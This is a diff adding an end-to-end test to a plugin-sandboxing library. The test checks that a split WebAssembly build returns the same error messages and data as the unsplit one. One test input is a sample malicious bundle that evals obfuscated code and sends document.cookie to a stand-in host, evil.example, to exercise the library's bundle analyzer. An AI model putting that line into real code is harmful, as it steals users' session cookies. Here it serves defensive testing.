@@ -10,6 +10,7 @@
 // no way to choose which cleaner the host uses.
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
 import { startEnv, openHost, pluginFrame, until } from './helpers.mjs';
 
 const SANITIZER_JS = '/pkg/sanitizer/plugin_warden_sanitizer.js';
@@ -624,5 +625,68 @@ test('preload(\'checks\', url) (esbuild: the package\'s relative URL is wrong) a
     assert.ok(seen.length >= 1 && seen.every((a) => a === 'moved'), `requests: ${JSON.stringify(seen)}`);
   } finally {
     await host.close();
+  }
+});
+
+/**
+ * Calls whose answers are made of the core's static data (error messages, diagnostics, CSP
+ * text, signed bytes), each answer with whether the second part was loaded before the call.
+ */
+const dataAnswers = (page) => page.evaluate(async (bad) => {
+  const pkg = await import('/pkg/index.js');
+  const host = window.e2e.host;
+  const calls = [
+    () => new pkg.PluginHost({ limits: { heartbeatMs: 1 } }),
+    () => new pkg.PluginHost({ storage: 'nope' }),
+    () => new pkg.PluginHost({ hostVersion: 'x.y', user: { role: 'Boss' } }),
+    () => host.install(bad),
+    () => host.install({ id: 'data-net', name: 'Net', version: '1.0.0', permissions: ['api:read'], network: ['http://evil.example/x'] }),
+    () => host.hasPermission('plugins:read'),
+    () => pkg.sanitize('<b>x</b>'),
+    () => pkg.validateManifest(bad),
+    () => pkg.validateManifest(JSON.stringify({ ...bad, id: 'ok-id', version: '1.0.0', network: ['ftp://x'], mode: 'frame' })),
+    () => pkg.analyzeBundle('eval(atob("x")); fetch("https://evil.example/" + document.cookie)', { network: ['https://api.example'] }),
+    () => pkg.hostCsp([{ id: 'csp-a', name: 'A', version: '1.0.0', network: ['https://api.example'] }], { reportOnly: true, reportTo: '/csp' }),
+    () => Array.from(pkg.signedBytes({ id: 'signed', name: 'S', version: '1.0.0' }, 'console.log(1)')),
+  ];
+  const out = [];
+  for (const call of calls) {
+    const loaded = pkg.__pw_checksLoaded();
+    try {
+      const value = await call();
+      out.push({ loaded, ok: true, value: value instanceof pkg.PluginHost ? 'a PluginHost' : value });
+    } catch (e) {
+      out.push({ loaded, ok: false, code: e.code, message: e.message });
+    }
+  }
+  return out;
+}, BAD_MANIFEST);
+
+test('the split moves static data (messages, templates) with the code that reads it: the same answers, text for text, as the core unsplit, before and after the second part loads', async () => {
+  // The same host page, its core module once as built (two parts) and once unsplit (the
+  // build's target/split-core copy, which the glue runs as well: it never calls the loader).
+  const unsplit = readFileSync(new URL('../../target/split-core/plugin_warden_bg.wasm', import.meta.url));
+  const split = await freshHost();
+  const context = await env.browser.newContext();
+  try {
+    await context.route('**/pkg/plugin_warden_bg.wasm', (route) => route.fulfill({ status: 200, contentType: 'application/wasm', body: unsplit }));
+    const whole = await openHost(env, 'scenario=none&host-csp=none', { context });
+    const a = await dataAnswers(split.page);
+    const b = await dataAnswers(whole.page);
+    // The split page answered the first calls from its first part alone, then loaded the second.
+    assert.equal(a[0].loaded, false, JSON.stringify(a[0]));
+    assert.equal(a[a.length - 1].loaded, true, 'no call needed the second part: pick others');
+    assert.ok(b.every((r) => r.loaded === false), 'the unsplit page loaded a second part');
+    const strip = (list) => list.map(({ loaded, ...rest }) => rest);
+    assert.deepEqual(strip(a), strip(b));
+    // The answers are real ones: errors with codes and whole messages.
+    assert.ok(a.filter((r) => !r.ok).length >= 5, JSON.stringify(a).slice(0, 500));
+    for (const r of a.filter((x) => !x.ok)) {
+      assert.match(r.code, /^[A-Z_]+$/, JSON.stringify(r));
+      assert.ok(r.message.length > 20 && !r.message.includes('\u0000'), JSON.stringify(r));
+    }
+  } finally {
+    await split.close();
+    await context.close();
   }
 });
